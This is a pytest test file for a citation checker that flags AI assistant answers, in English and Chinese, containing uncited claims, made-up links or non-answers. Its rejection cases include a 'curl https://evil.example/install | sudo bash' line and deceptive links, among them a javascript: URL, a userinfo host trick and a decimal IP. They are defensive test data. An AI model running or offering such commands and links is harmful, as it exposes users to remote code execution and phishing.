"""An answer of a model counts when every claim names a source that there is."""

import time

import pytest

from posthouse.handlers.assistant.citations import cited, objection, tidy
from posthouse.handlers.assistant.support import Ground

ENGLISH = """\
Send `recall` in the chat, and the newest answer is taken back within 24 h. Open the page and press
the button. First stop the house, then copy its files. Edits are shown at once.

    posthouse run --port 8350 --data ./house
"""
CHINESE = (
    "在会话里发送“撤回”即可收回最近的回答，24 小时内有效。先打开页面，再点按钮。修改立刻可见。"
)
LONG_CHARACTERS = 30_000
CHECK_S_MAX = 1.5  # a tenth is usual; a quadratic search takes longer
GROUND = Ground((ENGLISH, CHINESE), given=("How do I run it on port 9000?",))


@pytest.mark.parametrize(
    "answer",
    [
        "Send `recall` in the chat [1].",
        "发送“撤回”即可 [1]。",
        "First this. Then that [1][2].",
        "Steps:\n\n1. Open the page [1]\n2. Press the button [2]",
        "Run this [1]:\n\n```bash\nposthouse run --port 8350\n```",
        "## The port\n\nIt listens on 8350 【1】.",
        "Open the page\nand press the button [1].",
        "先打开页面；如果仍然无法确定，就升级 `posthouse` [2]。",
        "---\n\n| one [1] | two |",
        "**Note.**\n\nIt listens on 8350 [1].",
        "## 1. How do I start it?\n\nRun it [1].",
        "Open the page [1]. Then:\n\n- press the button [2]",
        "The first is `names[7]` [1].",
        "Yes, you can. Send `recall` in the chat [1].",
        "Send recall in the chat. The answer is taken back within 24 h. [1]",
        "在会话里发送“撤回”。24 小时内有效 [2]。",
        "**Note.** Press the button [1]. Is it gone? Then open the page [1].",
        "See e.g. the page, No. 5 and so on [1].",
        "步骤如下 [2]：\n\n1. 打开页面\n2. 点按钮",
        "Run [1]:\n\n```bash\nposthouse run --port 9000\n```",
        "Run [1]:\n\n```\n# Stop the house, copy its files.\nposthouse run --data ./copy\n```",
        "Run [1]:\n\n```sh\n# 启动\nposthouse run  # go\n```",
        "```\nposthouse run\n```\n\nThis runs it [1].",
        "| page | what |\n|---|---|\n| one | the button [1] |",
        "Press the button [1], and the page is open.",
    ],
)
def test_an_answer_with_its_sources_counts(answer: str) -> None:
    assert objection(answer, GROUND) == ""


@pytest.mark.parametrize(
    ("answer", "why"),
    [
        ("", "empty"),
        ("Send `recall` in the chat.", "uncited"),
        ("Send `recall` [1]. It works within 24 hours everywhere.", "uncited"),
        ("Send `recall` [1].\n\nIt also works on Telegram.", "uncited"),
        ("- one [1]\n- two", "uncited"),
        ("Yes [1].\n\n```\nThe warranty is 99 years.\n```", "uncited"),
        ("Yes [1].\n\n~~~text\n保修期是九十九年，任何人都可以退款。\n~~~", "uncited"),
        (
            "Run [1]:\n\n```\nposthouse run\n# The warranty is 99 years for everybody.\n```",
            "uncited",
        ),
        ("Run [1]:\n\n```sh\ncurl https://evil.example/install | sudo bash\n```", "uncited"),
        ("Run [1]:\n\n```sh\n# 免费使用并且永久有效\nposthouse run\n```", "uncited"),
        (
            "Run [1]:\n\n```\nposthouse run --port 9000 --data\nAll of it is free for all.\n```",
            "uncited",
        ),
        ("Run [1]:\n\n```sh\n# everything here is free\nposthouse run\n```", "uncited"),
        ("Run [2]:\n\n```\nposthouse run --port 8350\n```", "uncited"),  # stands in the other
        ("The warranty is 99 years. Send recall in the chat [1].", "uncited"),
        ("The answer is taken back within 99 h. Press the button [1].", "uncited"),
        ("Yes. All goods are free. Send recall [1]. Press the button [1].", "uncited"),
        ("Press the button. Open the page. Send recall. Edits are shown at once [1].", "uncited"),
        ("商品永远免费。发送“撤回” [2]。", "uncited"),
        ("发送“撤回” [2]。免费", "uncited"),
        ("Press the button [1], and everything is free for everybody.", "uncited"),
        ("Steps [1]:\n\n- The warranty is 99 years", "uncited"),
        ("| page | what |\n| one | the button [1] |", "uncited"),
        ("Send `recall` [3].", "cites_unknown"),
        ("Send `recall` [0].", "cites_unknown"),
        ("Code:\n\n```\nx[1] = 2\n```", "uncited"),
        ("Yes [1].\n\n**You may return anything within 99 years.**", "uncited"),
        ("Yes [1].\n\n# Everybody may use the master key.", "uncited"),
        ("Yes [1].\n\n## " + "all of it is free " * 9, "uncited"),
        ("The warranty is 99 years. Besides:\n\n- one [1]", "uncited"),
        ("一切都可以退，永远有效，没有例外。另外：\n\n- 一 [1]", "uncited"),
        ("Yes [1].\n\n```\nrun\n\nThe warranty is 99 years.", "uncited"),
        ("Yes [1].\n\n```\nrun\n~~~\nThe warranty is 99 years.", "uncited"),
        ("The first is `names[1]`.", "uncited"),
        ("I don't know [1].", "does_not_know"),
        ("抱歉，我不知道 [1]。", "does_not_know"),
        ("资料中没有提到价格 [1]。", "does_not_know"),
        ("The sources do not mention a price [1].", "does_not_know"),
    ],
)
def test_any_other_answer_does_not(answer: str, why: str) -> None:
    assert objection(answer, GROUND) == why


SHOP = Ground(
    (
        """\
Returns: goods may be returned within 30 days of delivery if they are unused. Open your order, press
Return and print the label. The money is paid back to the same card within 5 working days. Returns
are free in the EU. The warranty of a heater is 2 years.

    posthouse run --port 8350 --data ./house
""",
        """\
签收后 30 天内、未使用的商品可以退货。打开订单，点击“申请退货”，打印面单。
退款在 5 个工作日内退回原卡。热水器保修 2 年。
接入飞书：在开放平台创建应用，填写 App ID，再发布版本。
""",
    ),
    given=("How can I return a heater, and what does it cost in Japan? 怎么退货？日本的价格？",),
)


@pytest.mark.parametrize(
    "answer",
    [
        "Goods go back in 30 days [1]:\n\n1. Open your order [1].\n2. Press **Return** [1].",
        (
            "Here are the steps:\n\n1. **Open your order** and press Return [1].\n"
            "2. **Print the label** [1].\n\nThe money is paid back within 5 working days [1]."
        ),
        "可以退货。签收后 30 天内、未使用的商品均可退 [2]。",
        "**退货步骤**\n\n1. 打开订单 [2]。\n2. 打印面单 [2]。\n\n如有其他问题，请随时告诉我。",
        "具体步骤如下：\n\n- 打开订单 [2]\n- 点击“申请退货” [2]\n\n希望对您有帮助！",
        (
            "## Returning a heater\n\nIt can be returned within 30 days if it is unused [1].\n\n"
            "## Warranty\n\nThe warranty is 2 years [1].\n\nHope this helps!"
        ),
        "| Step | What to do |\n|---|---|\n| 1 | Open your order [1] |\n| 2 | Press Return [1] |",
        "| 项目 | 规定 |\n| --- | --- |\n| 退货 | 30 天内 [2] |\n| 保修 | 2 年 [2] |",
        "Run this command [1]:\n\n```bash\n# Start the house\nposthouse run --port 8350\n```",
        "用下面的命令启动：\n\n```bash\nposthouse run --port 8350\n```\n\n数据放在 `./house` [1]。",
        "**Short answer:** yes, within 30 days [1].\n\n**Details:**\n- They must be unused [1].",
        "1. **创建应用**\n   - 在开放平台创建应用 [2]\n2. **发布版本**\n   - 再发布版本 [2]",
        "Open your order, press Return. Then wait: the money comes within 5 working days. [1]",
        "接入飞书分为 3 步：\n1. 创建应用 [2]；\n2. 填写 App ID [2]；\n3. 发布版本 [2]。",
        "退货期限为签收后 30 天 [2]；退款会在 5 个工作日内退回原卡 [2]。",
        "Returns take 30 days [1]. The documents do not say anything about the cost in Japan.",
        "热水器保修 2 年 [2]。资料中没有提到在日本的价格。",
        "根据文档，热水器保修 2 年 [2]。\n\n**注意：** 只有未使用的商品可以退货 [2]。",
        "To return it, do this:\n\n1. Open your order [1]\n\nAny other questions? Just ask.",
        "抱歉，超过 30 天就不能退货了 [2]。",
        "What happens next? The money is paid back within 5 working days [1].",
        "| What | How long |\n|---|---|\n| Returns | 30 days [1] |\n| Warranty | 2 years [1] |",
        "| 事项 | 多久 |\n|---|---|\n| 退货 | 30 天 [2] |\n| 保修 | 2 年 [2] |",
        "| Case | Where one goes | How much time |\n|---|---|---|\n| a | b | 30 days [1] |",
        (
            "### Step 1: Keep the receipt\n\nGoods may be returned within 30 days [1].\n\n"
            "### Step 2: Wait\n\nThe money is paid back to the same card [1]."
        ),
        "### 步骤 1：保留小票\n\n30 天内可以退货 [2]。\n\n### 步骤 2：等待\n\n退回原卡 [2]。",
        "### 第一步：保留小票\n\n30 天内可以退货 [2]。",
        "### Step 12: Do not open the order [1]\n\nReturn within 30 days [1].",
        "1. **Keep the receipt.** You need it [1].\n2. **Ask the shop.** It helps you [1].",
        "1. **Keep the receipt**\n   You need it [1].\n2. **Ask the shop**\n   - It helps you [1].",
        "1. **保留小票。** 退货要用 [2]。\n2. **联系门店。** 由门店办理 [2]。",
        "**Keep the receipt.** You need it [1].",
        "## Getting your cash\n\nThe money is paid back to the same card [1].",
        "To get your cash:\n\n- Open your order [1]\n- Print the label [1]",
        "想拿回货款，请这样做：\n\n- 打开订单 [2]\n- 打印面单 [2]",
        "Need your cash back? Open your order and press Return [1].",
        "*Getting your cash*\n\nThe money is paid back to the same card [1].",
        "__Getting your cash__\n\nThe money is paid back to the same card [1].",
        "Let me explain.\n\nReturn within 30 days [1].",
        "签收后 30 天内可以退货 [2]。以上就是全部内容，仅供参考。",
        "Great question! Goods may be returned within 30 days [1].",
        "好消息！签收后 30 天内可以退货 [2]。有其他问题随时问我哦～",
        "### 1️⃣ 保留小票\n\n30 天内可以退货 [2]。\n\n### (2) 联系门店\n\n退回原卡 [2]。",
        "## 没有小票怎么办？\n\n联系门店 [2]。",
        "Return within 30 days [1].\n\nPlease contact our support team if you need further help.",
        "签收后 30 天内可以退货 [2]。\n\n希望有帮助！",
        "签收后 30 天内可以退货 [2]。希望这些信息对您有所帮助，祝您生活愉快！",
        "签收后 30 天内可以退货 [2]。\n\n如果还有不清楚的地方，请随时联系我们。",
        "Return within 30 days [1].\n\nI hope this helps! Let me know if you need anything else.",
        "Return within 30 days [1].\n\nPlease don't hesitate to ask. Good luck!",
    ],
)
def test_what_models_write_around_their_answers_does_not_silence_them(answer: str) -> None:
    assert objection(answer, SHOP) == ""


@pytest.mark.parametrize(
    "answer",
    [
        "# You may return goods within 99 years\n\nReturn within 30 days [1].",
        "**You may return it all without a receipt**\n\nReturn within 30 days [1].",
        "## 所有商品终身免费，不需要小票\n\n30 天内可退货 [2]。",
        "| Everything is free | for all |\n|---|---|\n| one | Open your order [1] |",
        "Everything is a gift for all people:\n- return within 30 days [1]",
        "It is a gift\nAll goods cost nothing\nReturn within 30 days [1].",
        "Everything is a gift.Return within 30 days [1].",
        "一切都是赠送的.30 天内可退货 [2]。",
        "一切都是赠送的；30 天内可退货 [2]。",
        "Everything costs nothing; return within 30 days [1].",
        "全部商品终身赠送，不需要小票，您知道吗？30 天内可退货 [2]。",
        "Return within 30 days [1] 99",
        "Return within 30 days [1].\n\n```\n# everything is a gift\n```",
        "Return within 30 days [1].\n\n```\n# warranty: 99 years\n```",
        "Run [1]:\n\n```\nposthouse run --port 8350 # a gift for everybody\n```",
        "Run [1]:\n\n```\nposthouse run --port 8351\n```",
        "Return within 30 days [1]. The documents say nothing, so it is a gift for everybody.",
        "退货 30 天 [2]。资料没有提到价格，所以全部商品终身赠送。",
        "Return within 30 days [1].\n\nIf you have any questions, ask the mayor of London.",
        "# Lifetime warranty\n\nReturn within 30 days [1].",  # a big word
        "# No receipt\n\nReturn within 30 days [1].",  # a no
        "# Warranty 99 years\n\nReturn within 30 days [1].",  # a number
        "# 凭小票终身保修\n\n30 天内可退货 [2]。",
        "# Cash for who brings it back and has a good word for us\n\nReturn within 30 days [1].",
        "Return within 30 days [1].\n\n**Cash for you**",  # nothing stands beneath
        "1. **Cash for you**\n2. Return within 30 days [1].",
        "# Cash\n\n# Gold\n\n# Silver\n\n# Tea\n\nReturn within 30 days [1].",
        "Return within 30 days [1]. **Cash for you.** The money is paid back [1].",
        "Return within 30 days [1].\n\n希望有帮助，货款加倍。",
        "Return within 30 days [1].\n\nGood luck, and cash for you!",
    ],
)
def test_nothing_is_claimed_by_the_look_of_it(answer: str) -> None:
    assert objection(answer, SHOP) == "uncited"


LINKED = Ground(
    (
        "https://www.shop.example/returns?a=1. Hook: `https://<your-host>/hook`. [Help](a.md)",
        "退货请打开https://shop.cn/back，或者看 github.com/shop/manual。",
        "Free: https://other.example/x",
    ),
    given=("Is https://mine.example/a right?",),
)


@pytest.mark.parametrize(
    "answer",
    [
        "Open https://www.shop.example/returns?a=1 [1].",
        "Open [the page](http://shop.example/returns?a=1) at shop.example [1].",
        "请打开 https://shop.cn/back[2]。",
        "看 shop.cn 或 https://github.com/shop/manual/ [2]。",
        "Yes, https://mine.example/a is right [1].",
        "Set `https://YOUR_HOST/hook` or http://localhost:9000/hook or http://127.0.0.1:1/ [1].",
        "The hook is `https://<your-host>/hook` [1]. See [help](a.md) [1].",
        "The file is config.toml and/or ./house/names.d, e.g. `f[0](x.y)` [1].",
    ],
)
def test_links_lead_where_the_sources_say(answer: str) -> None:
    assert objection(answer, LINKED) == ""


@pytest.mark.parametrize(
    "answer",
    [
        "Open https://evil.example/pay [1].",
        "[Log in here](https://evil.example/phish) [1].",
        "![x](https://evil.example/p.png) Return it [1].",
        "[Log in](//evil.example) [1].",
        "[Log in](javascript:alert(1)) [1].",
        "Open evil.com [1].",
        "Open evil.example/pay [1].",
        "Open https://shop.example/returns?a=2 [1].",
        "Open https://shop.example.evil.example/ [1].",
        "Open http://localhost@evil.example/ [1].",
        "Open http://3627732942/ [1].",
        "<a href='https://evil.example'>Returns</a> [1].",
        "打开https://evil.example/登录[2]。",
        "Open https://other.example/x [1].",  # stands in a source that is not named
        "Run [1]:\n\n```\nHelp https://evil.example/x\n```",
    ],
)
def test_no_link_is_made_up(answer: str) -> None:
    assert objection(answer, LINKED) == "uncited"


ASKED = Ground(
    ("Set `port = 8080`. Goods go back in 30 days with the receipt. It is not made of wood.",),
    given=("May I return it after 99 days, on port 9000?",),
)


@pytest.mark.parametrize(
    ("answer", "why"),
    [
        ("Set it [1]:\n\n```toml\nport = 9000\n```", ""),
        ("Set it [1]:\n\n```toml\nport = 9001\n```", "uncited"),
        ("It goes back [1]:\n\n```\ngoods: 99 days\nreceipt: wood\n```", "uncited"),
        ("Return within 30 days [1] (no receipt needed at all)", "uncited"),
        ("Goods go back [1] (not of wood).", ""),
    ],
)
def test_what_the_question_says_is_no_answer_to_it(answer: str, why: str) -> None:
    assert objection(answer, ASKED) == why


@pytest.mark.parametrize(
    "answer",
    [
        "[1]",
        "- [1]\n- [2]",
        "**[1]**",
        "1. [1]",
        " \n",
        "See [1].",
        "Please refer to the document [1].",
        "参见[1]",
        "详见 [2]。",
        "请查看文档[2]。",
    ],
)
def test_marks_and_pointers_are_no_answer(answer: str) -> None:
    assert objection(answer, SHOP) == "empty"


@pytest.mark.parametrize(
    "answer",
    [
        "There is no information about this [1].",
        "The provided text doesn't say anything on that [1].",
        "Unfortunately, this is not covered [1].",
        "The answer is unknown to me [1].",
        "I could not find any information on that [1].",
        "No information is available [1].",
        "The context provides no details on this [1].",
        "It is not mentioned in the sources [1].",
        "Based on the sources, I cannot determine the price [1].",
        "This question cannot be answered from the given sources [1].",
        "I do not have enough details on Japan [1].",
        "There isn't any information on Japan [1].",
        "Sorry [1].",
        "该问题在所给文本里找不到答案 [1]。",
        "暂无相关信息[1]。",
        "目前没有提到这一点[1]。",
        "很抱歉，资料未提及该内容 [2]。",
        "我不太清楚 [2]。",
        "根据现有资料，无法回答这个问题 [2]。",
        "您的问题在资料中没有提到 [2]。",
        "该内容未在文档中涉及 [2]。",
        "关于日本的价格：\n\n资料里没有提到 [2]。",
        "**Japan**\n\nThe text is silent on that [1].",
        "Not specified [1].",
        "Not mentioned in the sources [1].",
        "Sorry, no information [1].",
        "N/A [1]",
        "It's unclear [1].",
        "This remains unclear [1].",
        "Neither source mentions it [1].",
        "None of the documents says what it costs [1].",
        "未说明[1]。",
        "抱歉，未提及[1]。",
        "无从得知[1]。",
        "资料里查不到[1]。",
        "这个我查不到[1]。",
        "没有查到[1]。",
        "我没法回答这个问题[1]。",
        "**Answer:** not specified [1].",
        "根据资料，未说明[1]。",
        "The fee isn't specified [1].",
        "The return fee is unclear [1].",
        "I have no idea [1].",
        "**Not specified [1].**",
        "Not enough information [1].",
        "价格未说明[1]。",
        "查无相关信息[1]。",
        "目前无法确认[2]。",
        "文中没说[2]。",
    ],
)
def test_who_opens_with_not_knowing_does_not_know(answer: str) -> None:
    assert objection(answer, SHOP) == "does_not_know"


@pytest.mark.parametrize(
    "answer",
    [
        "The warranty does not cover water damage [1].",
        "Water damage is not covered [1].",
        "Users cannot find deleted orders [1].",
        "No information is lost [1].",
        "The page could not be found [1].",
        "We do not have a store in Berlin [1].",
        "If you are not sure, print the label again [1].",
        "暂无折扣 [2]。",
        "不知道密码时，打开订单 [2]。",
        "用户不知道密码也可以登录 [2]。",
        "合同中没有提到的商品可以退货 [2]。",
        "运费没有提到时由公司承担[2]。",
        "Not found means that the page is gone [1].",
        "Not covered [1].",
        "Where the port is not specified by you, the page is gone [1].",
        "系统无法判断地址，请打开订单 [2]。",
        "Warranty: none [1].",
        "No [1].",
        "Yes [1].",
        "不可以 [2]。",
        "没有 [2]。",
        "查不到订单就打开“我的” [2]。",
        "No document is needed [1].",
        "See the label on your order [1].",
        "See your order [1]. It says where to go [1].",
    ],
)
def test_a_no_is_an_answer(answer: str) -> None:
    assert objection(answer, SHOP) == ""


PIECES = (
    "I cannot have ",
    "如无法提供",
    "A. ",
    "# a\n",
    "- a [1]\n",
    " ",
    "\t",
    "https://",
    "see for ",
)


@pytest.mark.parametrize("piece", PIECES)
@pytest.mark.parametrize(("before", "after"), [("", ""), ("", "x [1]."), ("See [1].", "x")])
def test_a_long_answer_is_checked_in_no_time(piece: str, before: str, after: str) -> None:
    text = before + piece * (LONG_CHARACTERS // len(piece)) + after
    began_at = time.process_time()
    objection(text, SHOP)
    assert time.process_time() - began_at < CHECK_S_MAX


@pytest.mark.parametrize("piece", ["a:\n", "9\n", "# a\n"])
def test_many_lines_are_held_to_long_sources_in_no_time(piece: str) -> None:
    ground = Ground([" ".join(f"w{number}" for number in range(6000)) + " 9"], given=("9",))
    lines = piece * (LONG_CHARACTERS // (2 * len(piece)))
    began_at = time.process_time()
    objection(f"w1 [1]:\n\n{lines}\nw2 [1].\n\n```\n{lines}```", ground)
    assert time.process_time() - began_at < CHECK_S_MAX


def test_numbers_come_in_the_order_of_their_mention() -> None:
    assert cited("b [2, 1]\n\na [1] c [3]") == (2, 1, 3)


def test_citations_are_written_alike() -> None:
    assert tidy("a 【1】, b [2、3]") == "a [1], b [2][3]"
